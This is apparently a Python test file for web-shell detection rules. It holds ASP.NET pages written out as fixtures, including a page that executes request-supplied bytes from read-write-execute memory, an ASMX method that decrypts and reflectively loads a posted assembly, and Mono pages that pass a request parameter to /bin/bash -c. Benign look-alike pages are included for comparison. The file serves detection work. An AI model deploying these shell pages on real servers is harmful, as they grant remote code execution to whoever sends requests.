"""Rules from the forty-first unseen collection: a seeded sample of web shell repositories' files (issue 14,
helper X41).

On first sight (BENCHMARKS.md, "Unseen shells, forty-first collection: a seeded sample of web shell repositories
III") the own rules and the behaviour analysis found every measured file, but one only through the behaviour
analysis: an "ASPX web shell with COFF loader" - a server page that relocates a Beacon Object File posted as
JSON into memory it allocates ``PAGE_EXECUTE_READWRITE`` and calls its entry point through
``Marshal.GetDelegateForFunctionPointer``. ``EXT_WEBSHELL_Shellcode_Runner_Page`` needs a thread or callback
start (CreateThread, an APC, EnumSystemLocales...) and the page starts none: it calls the mapped code as a
delegate in the request's own thread. No signature-base rule fired either. The rule
``EXT_WEBSHELL_Native_Code_Called_As_Delegate`` (``data/rules/shellcode_runners.yar``) takes that start.

The second batch (one file: the sample's fifth Godzilla pick) was also found by the behaviour analysis alone:
Godzilla's ASMX "web method" page, whose encrypted assembly arrives as the argument of a ``[WebMethod]`` (SOAP or
form binding reads the request; the page never names ``Request``). ``EXT_WEBSHELL_Assembly_Load_By_Reflection``
(``data/rules/reflected_loaders.yar``) needed the request named; it now also takes a web service method's
parameter when the ``byte[]`` overload of ``Load`` is the one looked up.

The third batch (stratum B: files at a shell's usual path) held one new file, found by the behaviour analysis
alone: a page for ASP.NET on Mono/Linux that starts ``/bin/bash`` with ``-c`` and the request's ``cmd``.
``EXT_WEBSHELL_Process_Exec`` (``data/rules/webshells.yar``) knew cmd.exe, powershell and ``/c`` only; it now also
takes a Unix shell named by path (``/bin/sh``, ``/bin/bash``, ``/usr/bin/zsh``...).

The pages below are harmless files in that shape, written here: nothing is compiled or run by the tests, the
"code" is a single ``ret`` byte or the request's bytes that no test sends, and none is a copy of the collected
page (which parses COFF sections, relocations and symbols). The ordinary pages are the closest everyday ones:
a page calling an export of a vendor's native library through ``GetProcAddress`` and a delegate, a page
handing a read/write buffer it allocates with ``VirtualAlloc`` to a native compressor, and an image handler
copying pixels with ``Marshal.Copy``.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, rule_tables, yara_rules

_RULE = "EXT_WEBSHELL_Native_Code_Called_As_Delegate"
_RUNNER = "EXT_WEBSHELL_Shellcode_Runner_Page"

_CS_DECLS = (
    "[System.Runtime.InteropServices.UnmanagedFunctionPointer(System.Runtime.InteropServices.CallingConvention.Cdecl)]\n"
    "delegate int Entry(IntPtr args, int size);\n"
    '[System.Runtime.InteropServices.DllImport("kernel32.dll")]\n'
    "static extern IntPtr VirtualAlloc(IntPtr a, uint size, uint type, uint protect);\n"
)

SHELLS: list[Page] = [
    (
        "cs-enum-execute-readwrite-delegate",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n'
        '<script runat="server">\n'
        + _CS_DECLS
        + "enum Protect : uint { PAGE_READWRITE = 0x04, PAGE_EXECUTE_READWRITE = 0x40 }\n"
        "void Page_Load(object s, EventArgs e) {\n"
        "  byte[] code = Request.BinaryRead(Request.ContentLength);\n"
        "  IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)code.Length, 0x3000, (uint)Protect.PAGE_EXECUTE_READWRITE);\n"
        "  Marshal.Copy(code, 0, m, code.Length);\n"
        "  Entry run = (Entry)Marshal.GetDelegateForFunctionPointer(m, typeof(Entry));\n"
        "  Response.Write(run(IntPtr.Zero, 0));\n}\n</script>",
    ),
    (
        "cs-protect-hex-generic-delegate",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Probe" %>\n'
        "using System; using System.Web; using System.Runtime.InteropServices;\n"
        "public class Probe : IHttpHandler {\n"
        "  delegate void Go();\n"
        '  [DllImport("kernel32")] static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint n, out uint o);\n'
        "  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        "    byte[] b = { 0xc3 }; uint old;\n"
        "    IntPtr m = Marshal.AllocHGlobal(b.Length);\n"
        "    Marshal.Copy(b, 0, m, b.Length);\n"
        "    VirtualProtect(m, (UIntPtr)b.Length, 0x40, out old);\n"
        "    Marshal.GetDelegateForFunctionPointer<Go>(m)();\n  }\n}\n",
    ),
    (
        "vb-alloc-hex-delegate",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Delegate Function Entry() As Integer\n"
        '<System.Runtime.InteropServices.DllImport("kernel32")> Shared Function VirtualAlloc(a As IntPtr, s As UInteger, t As UInteger, p As UInteger) As IntPtr\nEnd Function\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        "  Dim b As Byte() = {&HC3}\n"
        "  Dim m As IntPtr = VirtualAlloc(IntPtr.Zero, 1, &H3000, &H40)\n"
        "  System.Runtime.InteropServices.Marshal.Copy(b, 0, m, 1)\n"
        "  Dim f As Entry = CType(System.Runtime.InteropServices.Marshal.GetDelegateForFunctionPointer(m, GetType(Entry)), Entry)\n"
        "  Response.Write(f())\nEnd Sub\n</script>",
    ),
]

ORDINARY: list[Page] = [
    (
        "vendor-export-through-delegate",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n'
        '<script runat="server">\n'
        "delegate int GetVersion(IntPtr buf, int len);\n"
        '[DllImport("kernel32")] static extern IntPtr LoadLibrary(string name);\n'
        '[DllImport("kernel32")] static extern IntPtr GetProcAddress(IntPtr h, string name);\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  IntPtr lib = LoadLibrary(Server.MapPath("~/bin/native/scanner.dll"));\n'
        '  var ver = (GetVersion)Marshal.GetDelegateForFunctionPointer(GetProcAddress(lib, "GetVersion"), typeof(GetVersion));\n'
        "  IntPtr buf = Marshal.AllocHGlobal(64); byte[] text = new byte[64];\n"
        "  int n = ver(buf, 64); Marshal.Copy(buf, text, 0, n); Marshal.FreeHGlobal(buf);\n"
        "  Version.Text = System.Text.Encoding.ASCII.GetString(text, 0, n);\n}\n</script>\n"
        '<asp:Label id="Version" runat="server" />',
    ),
    (
        "readwrite-buffer-for-native-compressor",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Pack" %>\n'
        "using System; using System.Web; using System.Runtime.InteropServices;\n"
        "public class Pack : IHttpHandler {\n"
        "  const uint MEM_COMMIT = 0x1000, PAGE_READWRITE = 0x04;\n"
        "  delegate int Compress(IntPtr src, int len, IntPtr dst);\n"
        '  [DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n'
        '  [DllImport("kernel32")] static extern IntPtr GetProcAddress(IntPtr h, string n);\n'
        '  [DllImport("kernel32")] static extern IntPtr GetModuleHandle(string n);\n'
        "  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        '    byte[] data = System.IO.File.ReadAllBytes(c.Server.MapPath("~/App_Data/report.csv"));\n'
        "    IntPtr src = VirtualAlloc(IntPtr.Zero, (uint)data.Length, MEM_COMMIT, PAGE_READWRITE);\n"
        "    IntPtr dst = VirtualAlloc(IntPtr.Zero, (uint)data.Length, MEM_COMMIT, PAGE_READWRITE);\n"
        "    Marshal.Copy(data, 0, src, data.Length);\n"
        '    var pack = (Compress)Marshal.GetDelegateForFunctionPointer(GetProcAddress(GetModuleHandle("lz4.dll"), "LZ4_compress"), typeof(Compress));\n'
        "    int n = pack(src, data.Length, dst); byte[] o = new byte[n]; Marshal.Copy(dst, o, 0, n);\n"
        "    c.Response.BinaryWrite(o);\n  }\n}\n",
    ),
    (
        "image-handler-copies-pixels",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Gray" %>\n'
        "using System; using System.Web; using System.Drawing; using System.Drawing.Imaging;\n"
        "public class Gray : IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        '    using (var bmp = new Bitmap(c.Server.MapPath("~/img/logo.png"))) {\n'
        "      var d = bmp.LockBits(new Rectangle(0, 0, bmp.Width, bmp.Height), ImageLockMode.ReadWrite, PixelFormat.Format32bppArgb);\n"
        "      byte[] px = new byte[d.Stride * d.Height];\n"
        "      System.Runtime.InteropServices.Marshal.Copy(d.Scan0, px, 0, px.Length);\n"
        "      for (int i = 0; i < px.Length; i += 4) { byte g = (byte)((px[i] + px[i + 1] + px[i + 2]) / 3); px[i] = px[i + 1] = px[i + 2] = g; }\n"
        "      System.Runtime.InteropServices.Marshal.Copy(px, 0, d.Scan0, px.Length);\n"
        "      bmp.UnlockBits(d); bmp.Save(c.Response.OutputStream, ImageFormat.Png);\n    }\n  }\n}\n",
    ),
]

_REFLECTED = "EXT_WEBSHELL_Assembly_Load_By_Reflection"

WEB_METHOD_LOADERS: list[Page] = [
    (
        "asmx-webmethod-aes-reflected-load",
        ".asmx",
        '<%@ WebService Language="C#" Class="Notes" %>\n'
        "public class Notes : System.Web.Services.WebService {\n"
        "  [System.Web.Services.WebMethod(EnableSession = true)]\n"
        "  public string Sync(string blob) {\n"
        '    byte[] k = System.Text.Encoding.ASCII.GetBytes("0123456789abcdef");\n'
        "    byte[] d = System.Convert.FromBase64String(blob);\n"
        "    d = new System.Security.Cryptography.AesManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length);\n"
        '    object a = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) })'
        ".Invoke(null, new object[] { d });\n"
        '    return a == null ? "" : "ok";\n  }\n}\n',
    ),
    (
        "asmx-vb-webmethod-reflected-load",
        ".asmx",
        '<%@ WebService Language="VB" Class="Notes" %>\n'
        "Public Class Notes\n  Inherits System.Web.Services.WebService\n"
        "  <System.Web.Services.WebMethod()> Public Function Sync(blob As String) As String\n"
        "    Dim d As Byte() = System.Convert.FromBase64String(blob)\n"
        '    Dim m = GetType(System.Reflection.Assembly).GetMethod("Load", New System.Type() {GetType(Byte())})\n'
        "    m.Invoke(Nothing, New Object() {d})\n"
        '    Return "ok"\n  End Function\nEnd Class\n',
    ),
]

WEB_METHOD_ORDINARY: list[Page] = [
    (
        "asmx-plugin-by-name-and-thumbnail",
        ".asmx",
        '<%@ WebService Language="C#" Class="Plugins" %>\n'
        "public class Plugins : System.Web.Services.WebService {\n"
        "  [System.Web.Services.WebMethod]\n"
        "  public int Thumb(string png) {\n"
        "    byte[] img = System.Convert.FromBase64String(png);\n"
        '    object a = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(string) })'
        '.Invoke(null, new object[] { "Contoso.Imaging" });\n'
        "    return a == null ? 0 : img.Length;\n  }\n}\n",
    ),
    (
        "asmx-plugin-bytes-from-bin-file",
        ".asmx",
        '<%@ WebService Language="C#" Class="Plugins" %>\n'
        "public class Plugins : System.Web.Services.WebService {\n"
        "  [System.Web.Services.WebMethod]\n"
        "  public string Reload(string name) {\n"
        '    byte[] raw = System.IO.File.ReadAllBytes(Server.MapPath("~/App_Data/plugins/reports.dll"));\n'
        '    object a = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) })'
        ".Invoke(null, new object[] { raw });\n"
        '    return a == null ? "missing" : name;\n  }\n}\n',
    ),
    (
        "asmx-decrypts-order-token",
        ".asmx",
        '<%@ WebService Language="C#" Class="Orders" %>\n'
        "public class Orders : System.Web.Services.WebService {\n"
        "  static readonly byte[] K = new byte[16];\n"
        "  [System.Web.Services.WebMethod]\n"
        "  public string Status(string token) {\n"
        "    byte[] d = System.Convert.FromBase64String(token);\n"
        "    d = new System.Security.Cryptography.AesManaged().CreateDecryptor(K, K).TransformFinalBlock(d, 0, d.Length);\n"
        '    return "order " + System.Text.Encoding.UTF8.GetString(d) + " shipped";\n  }\n}\n',
    ),
]

_PROCESS = "EXT_WEBSHELL_Process_Exec"

UNIX_SHELL_PAGES: list[Page] = [
    (
        "cs-bin-bash-dash-c-request",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string q = Request["q"];\n  if (string.IsNullOrEmpty(q)) return;\n'
        '  var p = new Process();\n  p.StartInfo.FileName = "/bin/bash";\n'
        '  p.StartInfo.Arguments = "-c \\"" + q + "\\"";\n'
        "  p.StartInfo.RedirectStandardOutput = true;\n  p.StartInfo.UseShellExecute = false;\n"
        "  p.Start();\n  Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>",
    ),
    (
        "vb-bin-sh-processstartinfo",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '  Dim i As New System.Diagnostics.ProcessStartInfo("/bin/sh", "-c " & Request.Form("q"))\n'
        "  i.UseShellExecute = False\n  i.RedirectStandardOutput = True\n"
        "  Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd())\nEnd Sub\n</script>",
    ),
]

UNIX_SHELL_ORDINARY: list[Page] = [
    (
        "mono-status-page-runs-fixed-tool",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  int page = int.Parse(Request.QueryString["page"] ?? "1");\n'
        '  var p = Process.Start(new ProcessStartInfo("/usr/bin/uptime") { RedirectStandardOutput = true, UseShellExecute = false });\n'
        '  Status.Text = p.StandardOutput.ReadToEnd() + " (page " + page + ")";\n}\n</script>\n'
        '<asp:Label id="Status" runat="server" />',
    ),
    (
        "mono-backup-script-no-request",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Backup_Click(object s, EventArgs e) {\n"
        '  var p = System.Diagnostics.Process.Start("/bin/sh", "/opt/site/backup.sh");\n'
        '  p.WaitForExit();\n  Done.Text = "backup finished";\n}\n</script>\n'
        '<form runat="server"><asp:Button runat="server" OnClick="Backup_Click" Text="Back up" />'
        '<asp:Label id="Done" runat="server" /></form>',
    ),
]

CASES: list[RuleCase] = [
    (_RULE, SHELLS, ORDINARY),
    (_REFLECTED, WEB_METHOD_LOADERS, WEB_METHOD_ORDINARY),
    (_PROCESS, UNIX_SHELL_PAGES, UNIX_SHELL_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


def test_delegate_start_is_what_the_runner_rule_did_not_take(
    tmp_path: Path, params: content.ContentParams
) -> None:
    """The gap this rule closes: the thread-starting runner rule stays silent on a page that calls the code it
    mapped as a delegate (so the new rule is the one that names it), and still names the runner that starts a
    thread (so the two rules do not overlap on the shape the older one was written for)."""
    delegate_page = SHELLS[0][2]
    assert _RUNNER not in yara_rules(tmp_path, "loader.aspx", delegate_page, params)
    thread_page = delegate_page.replace(
        "  Entry run = (Entry)Marshal.GetDelegateForFunctionPointer(m, typeof(Entry));\n"
        "  Response.Write(run(IntPtr.Zero, 0));\n",
        "  CreateThread(IntPtr.Zero, 0, m, IntPtr.Zero, 0, IntPtr.Zero);\n",
    ).replace(
        "static extern IntPtr VirtualAlloc(IntPtr a, uint size, uint type, uint protect);\n",
        "static extern IntPtr VirtualAlloc(IntPtr a, uint size, uint type, uint protect);\n"
        '[System.Runtime.InteropServices.DllImport("kernel32.dll")]\n'
        "static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n",
    )
    assert thread_page != delegate_page
    found = yara_rules(tmp_path, "runner.aspx", thread_page, params)
    assert _RUNNER in found
    assert _RULE not in found
